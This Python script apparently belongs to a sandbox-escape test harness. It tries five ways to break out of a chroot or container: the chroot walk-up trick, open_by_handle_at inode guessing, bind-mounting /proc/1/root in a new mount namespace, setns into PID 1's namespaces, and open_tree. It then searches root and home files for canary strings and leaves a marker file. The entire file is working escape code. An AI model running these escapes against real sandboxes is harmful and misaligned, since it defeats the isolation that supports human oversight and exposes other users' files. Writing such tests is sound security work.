"""Get out of a changed root: chroot and walk up, file handles, new namespaces and mounts, others' namespaces."""

import ctypes
import os
import re
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
MARKER = Path("/tmp/coursekit-owned-leaking_escapes_the_root")
NEW_USER, NEW_MOUNTS, BIND, REC, PRIVATE = 0x10000000, 0x00020000, 1 << 12, 1 << 14, 1 << 18


def look():
    """Is there more to be seen than before?"""
    for pattern in ("root/*.txt", "home/*/*.txt", "tmp/attacks-*/home/*.txt", "tmp/attacks-*/submissions/*.py"):
        for path in list(Path("/").glob(pattern)):
            for canary in re.findall(r"canary-[0-9a-f]{32}", path.read_text(errors="replace")):
                print("FOUND", canary, flush=True)
    if Path("/tmp").is_dir():
        MARKER.touch()


def walk_up():
    os.makedirs("inner", exist_ok=True)
    outside = os.open(".", os.O_RDONLY)
    os.chroot("inner")
    os.fchdir(outside)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")


def by_handle():
    for inode in (2, 64, 128, 256):  # where file systems keep their root
        handle = (ctypes.c_uint32 * 4)(8, 1, inode, 0)
        here = os.open("/usr", os.O_RDONLY)
        found = libc.open_by_handle_at(here, handle, os.O_RDONLY)
        if found >= 0:
            os.fchdir(found)
            os.chroot(".")


def new_mounts():
    if libc.unshare(NEW_USER) and libc.unshare(NEW_USER | NEW_MOUNTS) and libc.unshare(NEW_MOUNTS):
        return
    if libc.unshare(NEW_MOUNTS) == 0 and libc.mount(None, b"/", None, PRIVATE | REC, None) == 0:  # nobody else's
        libc.mount(b"/proc/1/root", b"/usr", None, BIND | REC, None)
        os.chroot("/usr")


def others_namespaces():
    for pid in (1, os.getppid()):
        for name in ("mnt", "user", "pid", "net"):
            libc.setns(os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY), 0)
        os.chroot(f"/proc/{pid}/root")


def by_tree():
    tree = libc.syscall(428, -100, b"/proc/1/root", 1 | 0x8000)  # open_tree, a detached copy
    os.fchdir(tree)
    os.chdir("..")


for way in (walk_up, by_handle, new_mounts, others_namespaces, by_tree):
    if (pid := os.fork()) == 0:
        try:
            way()
            look()
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
